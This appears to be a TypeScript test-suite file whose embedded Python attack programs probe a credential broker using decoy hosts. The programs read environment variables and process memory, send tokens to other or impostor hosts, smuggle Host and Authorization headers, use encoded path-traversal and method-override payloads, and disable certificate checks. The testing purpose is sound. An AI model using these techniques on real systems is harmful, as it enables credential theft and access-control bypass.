import type { ReceivedRequest } from "../../decoys/credential-host.js";
import { proxyProgram } from "../../programs/proxy-program.js";
import type { Attack, Stage } from "../attack.js";
import { type ProgramAttack, programAttack } from "../program-attack.js";

/** Ways to send a credential's placeholder: `ask(lines)` asks every proxy, and returns all responses. */
export const askProgram = String.raw`${proxyProgram}
import base64, ssl, zlib
# Certificates aren't verified: only what arrives matters.
context = ssl._create_unverified_context()

def lines(path, *headers, method=b"GET", host=None):
    named = host or P["names"]["keys"].encode()
    head = [b"%s %s HTTP/1.1" % (method, path), b"Host: %s:%d" % (named, P["port"]), b"X-Nonce: " + P["nonce"].encode()]
    return b"\r\n".join(head + list(headers) + [b"Content-Length: 0", b"Connection: close", b"", b""])

def ask(data, name="keys", server_name=None):
    answers = b""
    for proxy in proxies():
        try:
            opened = dial(proxy)
        except PermissionError:
            continue  # A socket of the platform, which another one may lead to.
        with opened as client:
            target = b"%s:%d" % (P["names"][name].encode(), P["port"])
            client.send(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target))
            if b" 200" not in client.recv(4096).split(b"\r\n")[0]:
                continue
            with context.wrap_socket(client, server_hostname=P["names"][server_name or name]) as secure:
                secure.sendall(data)
                while True:
                    more = secure.recv(65536)
                    if not more:
                        break
                    answers += more
    return answers

def found(data):
    """Secrets in it, also within base64, hex and gzip."""
    texts = [data, data.replace(b"\r\n", b"")]
    # Chunks of a body, joined.
    texts.append(re.sub(rb"\r\n[0-9a-f]+\r\n", b"", data))
    for text in list(texts):
        for word in re.findall(rb"[A-Za-z0-9+/_-]{24,}", text):
            for start in range(4):
                try:
                    texts.append(base64.b64decode(word[start:].replace(b"-", b"+").replace(b"_", b"/") + b"==="))
                except ValueError:
                    pass
        for word in re.findall(rb"(?:[0-9a-fA-F]{2}){12,}", text):
            texts.append(bytes.fromhex(word.decode()))
        at = text.find(b"\x1f\x8b")
        if at != -1:
            try:
                texts.append(zlib.decompressobj(31).decompress(text[at:]))
            except zlib.error:
                pass
    return leaks(b"\n".join(texts))

def key(name="KEY"):
    return P["inside"][name].encode()
say("BLOCKED", "no proxy was found") if not proxies() else None
`;

/** What reached the host that shouldn't have; undefined for nothing. */
type Misuse = (request: ReceivedRequest, secret: string) => boolean;

function credentialAttack(
  attack: Pick<ProgramAttack, "id" | "title" | "program"> & { readonly misuse?: Misuse },
): Attack {
  const { misuse, program, ...rest } = attack;
  return programAttack({
    ...rest,
    stoppedBy: ["credential broker"],
    needsCredentials: true,
    parameters: credentialParameters,
    program: `${askProgram}\n${program}`,
    ...(misuse === undefined
      ? {}
      : {
          aftermath: async ({ decoys }: Stage, nonce: string) => {
            const misused = decoys.keys?.received(nonce).find((request) => misuse(request, decoys.secret));
            return misused === undefined
              ? undefined
              : `the host was sent the value: ${misused.method} ${misused.url}`;
          },
        }),
  });
}

export function credentialParameters({ sandbox, decoys: { keys } }: Stage): object | string {
  if (keys === undefined) return "no host of credentials";
  return { port: keys.port, names: keys.names, inside: sandbox.placeholders ?? {} };
}

const holds = (request: ReceivedRequest, secret: string) => {
  const values = request.rawHeaders.filter((_text, index) => index % 2 === 1);
  const decoded = values.map((text) => Buffer.from(text.replace(/^\S+ /, ""), "base64").toString("latin1"));
  return [request.url, ...request.rawHeaders, ...decoded].some((text) => text.includes(secret));
};
export const headerOf = ({ rawHeaders }: ReceivedRequest, name: string) =>
  rawHeaders.filter((_text, index) => index % 2 === 1 && rawHeaders[index - 1]?.toLowerCase() === name);

export const credentialAttacks = [
  credentialAttack({
    id: "secrets.hidden/credential-inside",
    title: "find a credential's value in its placeholder, or in the memory of the process that sent it",
    program: `
def memory():
    answer = ask(lines(b"/echo", b"Authorization: Bearer " + key()))
    return memory_leaks("/proc/self")
attempt("placeholders", lambda: found(json.dumps(P["inside"]).encode()))
attempt("variables", lambda: found(json.dumps(dict(os.environ)).encode()))
attempt("memory", memory)`,
  }),
  credentialAttack({
    id: "secrets.hidden/credential-echo",
    title: "get a credential's value in its host's response: in headers, in pieces, encoded, compressed",
    program: `
for path in (b"/echo", b"/gzip"):
    attempt(path.decode(), lambda: found(ask(lines(path, b"Authorization: Bearer " + key(), b"Accept-Encoding: gzip"))))`,
  }),
  credentialAttack({
    id: "secrets.hidden/credential-other-host",
    title: "send a credential to a listed host that isn't its own",
    program: `
attempt("other host", lambda: found(ask(lines(b"/echo", b"Authorization: Bearer " + key(), host=P["names"]["second"].encode()), "second")))`,
    misuse: holds,
  }),
  credentialAttack({
    id: "secrets.hidden/credential-host-header",
    title: "open a tunnel to a credential's host and name another one inside it",
    program: `
second = P["names"]["second"].encode()
sent = b"Authorization: Bearer " + key()
attempt("host", lambda: found(ask(lines(b"/echo", sent, host=second))))
attempt("server name", lambda: found(ask(lines(b"/echo", sent, host=second), "keys", "second")))
attempt("twice", lambda: found(ask(lines(b"/echo", b"Host: " + second, sent))))
attempt("absolute", lambda: found(ask(lines(b"https://" + second + b"/echo", sent))))`,
    misuse: (request, secret) =>
      holds(request, secret) && JSON.stringify([request.url, headerOf(request, "host")]).includes("second."),
  }),
  credentialAttack({
    id: "secrets.hidden/credential-other-header",
    title: "send a credential in another header, in the path, or more than once",
    program: `
plain = b"Authorization: Bearer " + key()
tries = [(b"/echo", [b"X-Other: " + key()]), (b"/echo", [b"Cookie: a=" + key()]), (b"/echo?key=" + key(), []),
         (b"/echo", [b"Authorization: Basic " + base64.b64encode(b"u:" + key())]), (b"/echo", [plain, b"X-Other: " + key()]),
         (b"/echo", [plain, b"aUTHORIZATION: Bearer " + key()]), (b"/echo", [plain, plain]),
         (b"/echo", [b"X-Other: a", b" " + key()]), (b"/echo", [b"Authorization: Bearer " + key() + b", x"])]
for path, headers in tries:
    attempt("header", lambda: found(ask(lines(path, *headers))))`,
    misuse: (request, secret) => {
      const [first, ...more] = headerOf(request, "authorization");
      const rest = request.rawHeaders.filter((text) => text !== first);
      return (
        more.length > 0 || first !== `Bearer ${secret}` || holds({ ...request, rawHeaders: rest }, secret)
      );
    },
  }),
  credentialAttack({
    id: "secrets.hidden/credential-limits",
    title: "write with a read-only credential, and use one on another path",
    program: `
sent = b"X-Reader: " + key("READER")
tries = [(b"POST", b"/acme/a.git/git-receive-pack"), (b"DELETE", b"/acme/a"), (b"POST", b"/acme/a"), (b"PUT", b"/acme/a"),
         (b"GET", b"/other"), (b"GET", b"/acme/../other"), (b"GET", b"/acme/%2e%2e/other"), (b"GET", b"//acme/x"),
         (b"POST", b"/acme/x;/git-upload-pack"), (b"POST", b"/acme/a.git/git%2dreceive%2dpack"),
         (b"GET", b"/acme/%c0%ae%c0%ae/other"), (b"GET", b"/acme/..%09/other"), (b"GET", b"/acme/%u002e%u002e/other"),
         (b"GET", b"/acme/x%2f..%2f..%2fother"), (b"GET", b"/acme/a?_method=DELETE")]
for method, path in tries:
    attempt("limits", lambda: found(ask(lines(path, sent, method=method))))
for header in (b"X-HTTP-Method-Override: DELETE", b"X_HTTP_METHOD_OVERRIDE: DELETE", b"X_Original_URL: /other"):
    attempt("override", lambda: found(ask(lines(b"/acme/a", sent, header))))`,
    misuse: holds,
  }),
  credentialAttack({
    id: "secrets.hidden/credential-impostor",
    title: "get a credential sent to a server with the wrong certificate",
    program: `
named = P["names"]["impostor"].encode()
attempt("impostor", lambda: found(ask(lines(b"/echo", b"Authorization: Bearer " + key("IMPOSTOR"), host=named), "impostor")))`,
    misuse: holds,
  }),
] as const;
